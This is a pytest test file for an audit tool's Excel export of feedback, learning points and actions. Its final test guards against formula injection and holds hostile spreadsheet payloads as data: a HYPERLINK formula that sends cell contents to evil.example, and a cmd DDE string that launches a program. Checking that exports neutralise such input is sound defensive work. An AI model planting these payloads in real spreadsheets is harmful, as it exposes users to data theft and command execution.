"""The learning workbook: feedback, learning points and actions, each sheet headed by its filters
and read back as a user would open it."""

from __future__ import annotations

from datetime import date, datetime

import pytest
from openpyxl import load_workbook

from audit_tool.errors import PermissionDenied, ValidationError
from audit_tool.services import feedback, learning, learning_actions, learning_export, templates
from audit_tool.services.feedback import FeedbackFilter, FeedbackInput
from audit_tool.services.learning import LearningFilter
from tests.factories import looped_audit

DAY = date(2026, 1, 5)
SHARED = "The worker listened and came back when she said she would."
PRIVATE = "Her mum Dawn thinks the plan is pointless."


def build(world):
    """Two audits (two teams), learning of both kinds, three actions, three conversations."""
    db, aud1, aud2 = world.db, world.auditor, world.auditor2
    north = looped_audit(world, ref="C1000")  # Assessment Team North
    care = looped_audit(world, ref="C1002")  # Through Care Team
    area = templates.get_template(db, world.lead, "moderated_case_file").graded_items[0]
    learning.add_learning_point(
        db,
        aud1,
        north,
        kind="strength",
        text="The child's own words shape the plan.",
        item_key=area.key,
        themes=["Voice of the child", "planning"],
    )
    learning.add_learning_point(
        db, aud2, north, kind="development", text="Chronology not updated.", themes=["records"]
    )
    learning.add_learning_point(
        db, aud1, care, kind="development", text="Supervision not recorded.", themes=["records"]
    )
    overdue = learning_actions.add_action(
        db, aud1, north, text="Update the chronology", owner_key="aud1", due_on=date(2026, 2, 1)
    )
    done = learning_actions.add_action(
        db,
        aud2,
        north,
        text="Reissue supervision guidance",
        owner_key="tm1",
        due_on=date(2026, 3, 1),
        scope="service",
    )
    learning_actions.set_action_status(db, world.lead, done.uuid, "done", note="Sent to all teams")
    learning_actions.add_action(
        db, aud1, care, text="Book a review", owner_key="aud2", due_on=date(2027, 1, 1)
    )
    conversation = {
        "respondent": "parent",
        "channel": "phone",
        "collected_on": DAY,
        "consent": True,
        "answers": {"child_views": "yes", "contactable": "partly"},
    }
    feedback.add_feedback(
        db,
        aud1,
        FeedbackInput(**conversation, comment=SHARED, shareable=True),
        audit_uuid=north,
    )
    feedback.add_feedback(
        db,
        aud2,
        FeedbackInput(**{**conversation, "respondent": "child"}, comment=PRIVATE),
        audit_uuid=north,
    )
    feedback.add_feedback(
        db,
        world.lead,
        FeedbackInput(**{**conversation, "collected_on": date(2026, 6, 1)}),
        case_ref="C1002",
    )
    return north, area, overdue


def rows_of(ws):
    return [list(r) for r in ws.iter_rows(values_only=True)]


def table(ws, header_row):
    """The data rows under the heading row, as dicts by heading."""
    rows = rows_of(ws)
    headers = rows[header_row - 1]
    return [dict(zip(headers, r, strict=True)) for r in rows[header_row:]]


def test_workbook_sheets_filters_headings_and_values(world, tmp_path):
    _north, area, overdue = build(world)
    out = tmp_path / "out"  # the SQLite database lives in tmp_path
    out.mkdir()
    target = out / "learning.xlsx"
    counts = learning_export.export_workbook(
        world.db,
        world.lead,
        target,
        learning=LearningFilter(team_key="assess_north"),
        feedback=FeedbackFilter(date_from=date(2026, 1, 1), date_to=date(2026, 3, 31)),
        actions_which="all",
        action_kwargs={"team_key": "assess_north", "today": date(2026, 11, 1)},
    )
    assert counts == {"Feedback": 2, "Learning points": 2, "Actions": 2}
    book = load_workbook(target)
    assert book.sheetnames == ["Feedback", "Learning points", "Actions"]
    assert list(out.iterdir()) == [target]  # no temporary file left

    # Feedback: filters, a blank row, bold frozen filtered headings, one column per question.
    fb = book["Feedback"]
    lines = [r[0] for r in rows_of(fb)[:6]]
    assert lines[:4] == [
        "Programme: all",
        "Team: all",
        "Period: 2026-01-01 to 2026-03-31",
        "Gathered: in audits and outside",
    ]
    assert lines[4].startswith("Exported: ") and lines[4].endswith(" by Priya Lead")
    assert lines[5] is None
    assert fb["A7"].value == "Date" and fb["A7"].font.b
    assert fb.freeze_panes == "A8"
    assert fb.auto_filter.ref.startswith("A7:")
    got = table(fb, 7)
    questions = [q.text for q in feedback.list_questions(world.db, world.lead)]
    assert list(got[0])[8:-1] == questions and list(got[0])[-1] == "Comment"
    by_who = {r["Respondent"]: r for r in got}
    parent, child = by_who["Parent"], by_who["Child"]
    assert parent["Date"] == datetime(2026, 1, 5) and fb["A8"].is_date
    assert parent["Case"] == "C1000" and parent["Team"] == "Assessment Team North"
    assert parent["Programme"] == "Test programme"
    assert parent["In audit or outside"] == "In an audit"
    assert parent["Channel"] == "Phone" and parent["Consent"] == "Yes"
    assert parent[questions[0]] == "Yes"  # child_views
    assert parent[questions[4]] == "Partly"  # contactable
    assert parent[questions[1]] is None  # not answered: an empty cell
    assert parent["Comment"] == SHARED
    assert child["Comment"] == "(not shareable)"
    cells = [c for row in rows_of(fb) for c in row if c]
    assert not any("Dawn" in str(c) for c in cells)  # never written, not even hidden

    # Learning points: only the team asked for.
    lp = book["Learning points"]
    assert [r[0] for r in rows_of(lp)[:6]] == [
        "Programme: all",
        "Team: Assessment Team North",
        "Period (audit finalised, or point recorded): any time",
        "Kind: all",
        "Practice area: all",
        "Theme: all",
    ]
    header_row = 9  # six filter lines, "Exported", a blank row
    assert lp.cell(header_row, 1).value == "Recorded" and lp.freeze_panes == f"A{header_row + 1}"
    points = {r["Learning point"]: r for r in table(lp, header_row)}
    assert set(points) == {"The child's own words shape the plan.", "Chronology not updated."}
    strength = points["The child's own words shape the plan."]
    assert strength["Kind"] == "Strength" and strength["Practice area"] == area.label
    assert strength["Themes"] == "planning, voice of the child"
    assert strength["Case"] == "C1000" and strength["In briefings"] == "Yes"
    assert isinstance(strength["Recorded"], datetime) and strength["Audit finalised"] is None
    assert strength["Recorded by"] == "Alex Auditor"
    assert points["Chronology not updated."]["Kind"] == "Area for development"

    # Actions: by due date, status and overdue, and the period line.
    ac = book["Actions"]
    assert [r[0] for r in rows_of(ac)[:4]] == [
        "Actions: all",
        "Programme: all",
        "Team: Assessment Team North",
        "Period (due date): any time",
    ]
    actions = table(ac, 7)
    assert [a["Action"] for a in actions] == [
        "Update the chronology",
        "Reissue supervision guidance",
    ]
    first, second = actions
    assert first["Due"] == datetime(2026, 2, 1) and first["Status"] == "Open"
    assert first["Overdue"] == "Yes" and first["Owner"] == "Alex Auditor"
    assert first["Scope"] == "For the case" and first["From inadequate audit"] == "No"
    assert second["Status"] == "Done" and second["Overdue"] == "No"
    assert second["Scope"] == "For the service" and second["Note"] == "Sent to all teams"
    assert second["Completed by"] == "Priya Lead" and isinstance(second["Completed on"], datetime)
    assert ac.column_dimensions["B"].width > ac.column_dimensions["A"].width
    assert overdue.overdue


def test_narrower_filters_are_written_and_applied(world, tmp_path):
    build(world)
    target = tmp_path / "overdue.xlsx"
    counts = learning_export.export_workbook(
        world.db,
        world.lead,
        target,
        learning=LearningFilter(theme="Records", kind="development", programme_key="p-test"),
        feedback=FeedbackFilter(source="outside", team_key="through_care"),
        actions_which="overdue",
        action_kwargs={"date_from": date(2026, 1, 1)},
    )
    assert counts == {"Feedback": 1, "Learning points": 2, "Actions": 1}
    book = load_workbook(target)
    fb_lines = [r[0] for r in rows_of(book["Feedback"])[:4]]
    assert fb_lines == [
        "Programme: all",
        "Team: Through Care Team",
        "Period: any time",
        "Gathered: outside audits only",
    ]
    lp_lines = [r[0] for r in rows_of(book["Learning points"])[:6]]
    assert lp_lines[0] == "Programme: Test programme"
    assert "Kind: Area for development" in lp_lines and "Theme: records" in lp_lines
    ac_lines = [r[0] for r in rows_of(book["Actions"])[:4]]
    assert ac_lines[0] == "Actions: overdue"
    assert ac_lines[3] == "Period (due date): from 2026-01-01"


def test_an_auditor_may_not_export(world, tmp_path):
    build(world)
    target = tmp_path / "learning.xlsx"
    with pytest.raises(PermissionDenied, match="export feedback, learning and actions"):
        learning_export.export_workbook(
            world.db,
            world.auditor,
            target,
            learning=LearningFilter(),
            feedback=FeedbackFilter(),
        )
    assert not target.exists()


def test_a_failed_export_leaves_the_old_file_and_no_partial_one(world, tmp_path, monkeypatch):
    from openpyxl.workbook.workbook import Workbook

    build(world)
    out = tmp_path / "out"
    out.mkdir()
    target = out / "learning.xlsx"
    target.write_bytes(b"the previous export")

    save = Workbook.save

    def broken(self, filename):
        save(self, filename)  # the temporary file is written, then the disk fills
        raise OSError(28, "No space left on device")

    monkeypatch.setattr(Workbook, "save", broken)
    with pytest.raises(ValidationError, match="No space left on device"):
        learning_export.export_workbook(
            world.db, world.lead, target, learning=LearningFilter(), feedback=FeedbackFilter()
        )
    assert target.read_bytes() == b"the previous export"
    assert list(out.iterdir()) == [target]


def test_only_xlsx_and_known_action_filters(world, tmp_path):
    args = {"learning": LearningFilter(), "feedback": FeedbackFilter()}
    out = tmp_path / "out"
    out.mkdir()
    with pytest.raises(ValidationError, match=r"\.xlsx"):
        learning_export.export_workbook(world.db, world.lead, out / "x.csv", **args)
    with pytest.raises(ValidationError, match="owner"):
        learning_export.export_workbook(
            world.db, world.lead, out / "x.xlsx", action_kwargs={"owner": "aud1"}, **args
        )
    assert list(out.iterdir()) == []


def test_user_text_starting_with_equals_is_written_as_text_not_a_formula(world, tmp_path):
    """Formula injection: a learning point, action, comment or search text typed as a formula
    stays text (exactly as typed) and nothing in the workbook is a formula."""
    import zipfile

    north, _area, _overdue = build(world)
    point = '=HYPERLINK("http://evil.example/?"&A1,"Open")'
    learning.add_learning_point(world.db, world.auditor, north, kind="strength", text=point)
    learning_actions.add_action(
        world.db, world.auditor, north, text="=1+1", owner_key="aud1", due_on=date(2026, 2, 1)
    )
    feedback.add_feedback(
        world.db,
        world.auditor,
        FeedbackInput(
            respondent="parent",
            channel="phone",
            collected_on=DAY,
            consent=True,
            comment="=cmd|' /C calc'!A0",
            shareable=True,
        ),
        audit_uuid=north,
    )
    target = tmp_path / "learning.xlsx"
    learning_export.export_workbook(
        world.db,
        world.lead,
        target,
        learning=LearningFilter(text="=HYPERLINK"),
        feedback=FeedbackFilter(),
    )
    book = load_workbook(target)
    lp = book["Learning points"]
    assert "Text contains: =HYPERLINK" in [r[0] for r in rows_of(lp)]
    hostile = [c for row in lp.iter_rows() for c in row if c.value == point]
    assert len(hostile) == 1 and hostile[0].data_type == "s"
    assert "=1+1" in [r["Action"] for r in table(book["Actions"], 7)]
    assert "=cmd|' /C calc'!A0" in [r["Comment"] for r in table(book["Feedback"], 7)]
    with zipfile.ZipFile(target) as archive:
        for name in archive.namelist():
            if name.startswith("xl/worksheets/"):
                assert "<f>" not in archive.read(name).decode(), name
